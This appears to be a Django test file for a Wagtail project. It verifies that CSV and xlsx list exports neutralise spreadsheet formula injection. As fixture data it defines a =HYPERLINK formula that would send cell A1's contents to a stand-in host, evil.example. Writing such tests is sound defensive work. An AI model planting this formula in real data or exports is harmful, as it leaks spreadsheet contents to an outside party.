"""Wagtail's list exports (issue 13): CSV cells that start like a formula are escaped,
xlsx cells hold the same text typed as text, with no visible quote mark."""

import csv
import io

from django.contrib.auth.models import Group
from django.test import TestCase
from openpyxl import load_workbook

from accounts import roles
from home import sheets
from tests.accounts.factories import EnterpriseFactory, UserFactory
from tests.ledger.factories import WarningLetterFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
PLUS = "+1+1"


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[list[str]]:
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response):
    book = load_workbook(io.BytesIO(body(response)))
    return [cell for row in book.active.iter_rows(min_row=2) for cell in row]


def test_csv_safe_escapes_every_formula_start():
    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert sheets.csv_safe(value) == "'" + value
    assert sheets.csv_safe("津东化工") == "津东化工"
    assert sheets.csv_safe(-3) == -3


class ListExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.evil = EnterpriseFactory(name=HYPERLINK)
        cls.plus = EnterpriseFactory(name=PLUS)
        WarningLetterFactory(enterprise=cls.evil, subject="-2+3 检测")
        cls.trainer = UserFactory(role=roles.TRAINER)

    def setUp(self):
        self.client.force_login(self.trainer)

    def test_enterprise_csv_escapes_formulas(self):
        response = self.client.get("/admin/enterprises/", {"export": "csv"})
        self.assertEqual(response.status_code, 200)
        names = [row[0] for row in csv_rows(response)[1:]]
        self.assertIn("'" + HYPERLINK, names)
        self.assertIn("'" + PLUS, names)
        self.assertNotIn(HYPERLINK, names)

    def test_enterprise_xlsx_keeps_the_text_as_text_without_a_quote(self):
        response = self.client.get("/admin/enterprises/", {"export": "xlsx"})
        names = {c.value: c for c in xlsx_cells(response) if c.column == 1}
        self.assertIn(HYPERLINK, names)
        self.assertIn(PLUS, names)
        self.assertEqual(names[HYPERLINK].data_type, "s")
        self.assertFalse(any(str(v).startswith("'") for v in names))

    def test_warning_letter_csv_escapes_the_enterprise_and_the_subject(self):
        response = self.client.get("/admin/pufa_warning_letters/", {"export": "csv"})
        self.assertEqual(response.status_code, 200)
        cells = [cell for row in csv_rows(response)[1:] for cell in row]
        self.assertIn("'" + HYPERLINK, cells)
        self.assertIn("'-2+3 检测", cells)
        self.assertNotIn(HYPERLINK, cells)

    def test_wagtails_own_reports_escape_too(self):
        root = UserFactory(username="root", is_superuser=True, is_staff=True)
        victim = UserFactory(username="victim", name=HYPERLINK)
        self.client.force_login(root)
        victim.groups.add(Group.objects.get(name=roles.TRAINER))  # a logged grant
        response = self.client.get("/admin/reports/site-history/", {"export": "csv"})
        self.assertEqual(response.status_code, 200)
        cells = [cell for row in csv_rows(response)[1:] for cell in row]
        self.assertTrue(any(c.startswith("'" + HYPERLINK) for c in cells), cells)
        self.assertFalse(any(c.startswith(HYPERLINK) for c in cells))
